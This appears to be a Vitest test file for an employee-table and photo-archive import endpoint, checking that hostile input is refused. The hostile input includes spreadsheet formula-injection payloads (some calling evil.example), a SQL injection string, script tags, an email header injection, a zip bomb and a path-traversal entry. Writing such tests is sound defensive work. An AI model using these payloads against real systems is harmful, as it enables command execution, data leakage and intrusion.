import { beforeEach, describe, expect, it } from "vitest";
import { workbookOf } from "#tests/support/files/workbook.ts";
import { zip } from "#tests/support/files/zip.ts";
import { importCalls } from "#tests/support/server/import-calls.ts";
import { signedInToken } from "#tests/support/server/test-account.ts";
import { eachTestDeps } from "#tests/support/server/test-deps.ts";

const deps = eachTestDeps();
let token: string;
beforeEach(async () => {
  token = await signedInToken(deps);
});

const check = (table: string | Uint8Array, pictures?: Uint8Array) =>
  importCalls(deps, token).check({ table, pictures });

const headings = ["Name", "Employee ID", "Email", "Phone", "Address", "Feedback"].slice(0, 5);
const sound = ["Person One", "TPEID000001", "one@example.com", "+919000010401", "Temple Road"];
const quoted = (cells: readonly string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",");
const tableOf = (...rows: (readonly string[])[]) => [headings, ...rows].map(quoted).join("\n");

/** Ten texts for each of the fields and two more for the row: none of them may be stored. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","Name")',
  '=WEBSERVICE("https://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML("https://evil.example","//a")',
];
const others: Readonly<Record<string, readonly string[]>> = {
  name: [
    "",
    "Al",
    "x".repeat(65),
    "a\u0000b",
    "\u200B\u200B\u200B",
    "a\u0007bc",
    "\u0001abc",
    "  a  ",
    "ab\n",
    "\t\t",
  ],
  empID: [
    "TPEID1",
    "TPEID1234567",
    "EMP123456",
    "TPEID12345x",
    "TPEID1234",
    "' or 1=1 --",
    "TPEID٠٠٠٠٠١",
    "..",
    "1",
    "TPEID 00001",
  ],
  email: [
    "none",
    "a@b",
    "a@b..c",
    "<script>@x.com",
    "a b@c.com",
    `${"a".repeat(65)}@b.com`,
    "a@b.com\nBcc: x@y.com",
    "@b.com",
    "a@",
    "",
  ],
  phone: [
    "12",
    "+999 1234567890",
    "call me",
    "1".repeat(16),
    "++919000010401",
    "",
    "0".repeat(10).slice(1),
    "90000x10401",
    "+",
    "١٢٣٤٥٦٧٨٩٠",
  ],
  fullAddress: [
    "",
    "short",
    "x".repeat(5001),
    "a\u0000bcdef",
    "     ",
    "12345",
    "\u0001abcdef",
    "\u0007abcdef",
    "\u200B".repeat(9),
    "x",
  ],
};
const fields = ["name", "empID", "email", "phone", "fullAddress"];
const hostile = fields.flatMap((field, at) =>
  [...formulas, ...(others[field] ?? [])].map((text) => ({ field, cells: sound.with(at, text), text })),
);

describe("a hostile row", () => {
  it("is one of a hundred", () => expect(hostile).toHaveLength(100));

  it.each(hostile.filter(({ field, text }) => field !== "empID" || text !== ""))(
    "is refused: $field $text",
    async ({ field, cells }) => {
      const [status, { errors, fields: refused }] = await check(tableOf(cells));
      if (status === 400) expect(refused).toMatchObject({ table: expect.any(String) });
      else
        expect(errors).toContainEqual({
          row: 2,
          field,
          text: expect.stringMatching(/\w.*\.$/),
          value: expect.anything(),
        });
    },
  );

  it("has one error for each cell, in the order of the rows", async () => {
    const rows = [sound.with(2, "none"), sound.with(1, "=1+1").with(3, "=1+1")];
    const [, { errors }] = await check(tableOf(...rows));
    expect(errors.map(({ row, field }) => [row, field])).toEqual([
      [2, "email"],
      [3, "empID"],
      [3, "phone"],
    ]);
    expect(errors.slice(1).every(({ text }) => text.startsWith("This is a formula."))).toBe(true);
  });

  it("does not keep the sound row beside it from being read", async () => {
    const [, { rows, errors }] = await check(tableOf(sound, sound.with(0, "=1+1").with(1, "TPEID000002")));
    expect([rows, errors.map(({ row }) => row)]).toEqual([2, [3]]);
  });
});

describe("a table that is none", () => {
  const many = Array.from({ length: 5001 }, (_, at) => sound.with(1, `TPEID${String(at).padStart(6, "0")}`));
  const bomb = zip([
    { name: "[Content_Types].xml", data: "<Types/>" },
    { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(20_000_000, "<c/>") },
  ]);
  it.each<[string, string | Uint8Array, RegExp]>([
    ["without rows", tableOf(), /holds nobody/],
    ["without headings", "\n\n", /first row is empty/],
    ["with too many rows", tableOf(...many), /At most 5,000 people/],
    ["with an open quotation mark", `${tableOf(sound)}\n"open`, /quotation marks/],
    ["in an encoding of old", Buffer.from("Name\nJos\xe9", "latin1"), /UTF-8/],
    ["of a picture", Buffer.from("\x89PNG\r\n\x1a\n\0\0", "latin1"), /UTF-8/],
    ["that unpacks to too much", bomb, /unpacks to more/],
    ["of another archive", zip([{ name: "a.txt", data: "x" }]), /neither a CSV/],
    ["with macros", zip([{ name: "xl/vbaProject.bin", data: "x" }]), /macros/],
    ["that is empty", "", /./],
  ])("is refused: %s", async (_, table, text) => {
    const [status, { fields: refused }] = await check(table);
    expect([status, refused?.["table"]]).toEqual([400, expect.stringMatching(text)]);
  });

  it("names the cell of a workbook's formula and of an error", async () => {
    const cells = [...sound.slice(0, 3), { t: "n", v: 2, f: "1+1" } as const, { t: "e", v: 0x2a } as const];
    const [, { errors }] = await check(workbookOf([headings, cells]));
    expect(errors).toContainEqual(
      expect.objectContaining({ row: 2, field: "phone", text: expect.stringMatching(/^This is a formula/) }),
    );
    expect(errors).toContainEqual(
      expect.objectContaining({
        row: 2,
        field: "fullAddress",
        text: expect.stringMatching(/shows an error/),
      }),
    );
  });
});

describe("an archive of pictures", () => {
  it.each<[string, Uint8Array, RegExp]>([
    ["a bomb", zip([{ name: "TPEID000001.jpg", data: Buffer.alloc(20_000_000) }]), /unpacks to more/],
    [
      "with a lie about its size",
      zip([{ name: "a.jpg", data: Buffer.alloc(90_000, "x"), lie: { size: 10 } }]),
      /no ZIP|damaged/,
    ],
    [
      "with too many files",
      zip(Array.from({ length: 2001 }, (_, at) => ({ name: `${at}`, data: "" }))),
      /more than 2000/,
    ],
    ["with a password", zip([{ name: "a.jpg", data: "x", lie: { flags: 1 } }]), /password/],
    ["that leaves its folder", zip([{ name: "../../a.jpg", data: "x" }]), /no ZIP|damaged/],
    ["of no kind", Buffer.from("not an archive"), /no ZIP/],
  ])("is refused: %s", async (_, pictures, text) => {
    const [status, { fields: refused }] = await check(tableOf(sound), pictures);
    expect([status, refused?.["pictures"]]).toEqual([400, expect.stringMatching(text)]);
  });

  it("names each file that is no picture", async () => {
    const pictures = zip([
      { name: "TPEID000001.jpg", data: "<script>alert(1)</script>" },
      { name: "Person One.svg", data: "<svg/>" },
    ]);
    const [, { errors }] = await check(tableOf(sound), pictures);
    expect(errors.map(({ row, field }) => [row, field])).toEqual([
      [2, "pictures"],
      [2, "pictures"],
    ]);
  });
});
